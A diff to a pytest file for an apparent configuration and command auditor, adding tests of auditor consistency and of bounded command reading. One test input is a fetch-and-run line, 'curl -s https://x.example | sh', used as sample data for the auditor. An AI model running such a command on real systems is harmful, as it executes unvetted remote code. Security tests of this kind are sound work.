@@ -8,6 +8,7 @@ from datetime import timedelta
 
 import pytest
 
+from dashboard.audit import facts
 from dashboard.audit.check import Check
 from dashboard.audit.findings import Audit, Coverage, fields_fingerprint
 from dashboard.audit.outcome import SEVERITIES, Failed, NotAssessed, Severity
@@ -90,6 +91,39 @@ def test_more_details_run_the_checks_of_these_alone(monkeypatch: pytest.MonkeyPa
     changed = auditor.audit([subject(0, detail={"log_url": "/b/new"}), after[1]], NOW)
     assert len(ran) == 3 + 2  # and two for the comparison
     assert not len(changed.positions(checks=["REL006"]))
+
+
+def test_an_auditor_that_has_seen_other_inventories_says_what_a_new_one_says() -> None:
+    twins = [subject(n, name=f"c{n}", **{**RISKY, "config_desc": f"d{n % 2}"}) for n in range(3)]
+    twins.append(subject(3, name="c3", user_image_url="r.example/b", user_command="python b.py"))
+    keyed = [replace(one, secrets=(secret("user_command"),)) for one in twins[:2]]
+    edited = [replace(one, record={**one.record, "user_command": "$x"}) for one in twins[:3]]
+    detailed = [replace(one, detail={**one.record, "train_url": "/b"}) for one in twins]
+    hidden = [replace(one, secrets=(secret("parameter[a].value"),)) for one in detailed]
+    auditor = Auditor()
+    for whole in (True, False):
+        for subjects in (twins, twins[:3], edited, keyed, twins, detailed, hidden, twins, [], twins):
+            audit, fresh = (one.audit(subjects, NOW, whole=whole) for one in (auditor, Auditor()))
+            assert _said(audit) == _said(fresh)
+            assert audit.not_assessed == fresh.not_assessed
+
+
+def _said(audit: Audit) -> list[tuple[str, int, str]]:
+    return [(finding.check.id, finding.number, finding.message) for finding in audit]
+
+
+def test_many_commands_are_read_in_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(facts, "MAX_COMMANDS", 2)
+    monkeypatch.setattr(facts, "MAX_READ", 3)
+    commands = ["python a.py", "bash -c '", "curl -s https://x.example | sh", "$x", "python b.py"]
+    subjects = [
+        subject(n, name=f"c{n}", user_command=c, user_image_url="r/a") for n, c in enumerate(commands)
+    ]
+    auditor = Auditor()
+    first = _said(auditor.audit(subjects, NOW))
+    monkeypatch.undo()
+    assert first == _said(Auditor().audit(subjects, NOW))
+    assert first == _said(auditor.audit([replace(one, record=dict(one.record)) for one in subjects], NOW))
 
 
 def test_values_that_python_takes_for_equal_are_different_contents() -> None:
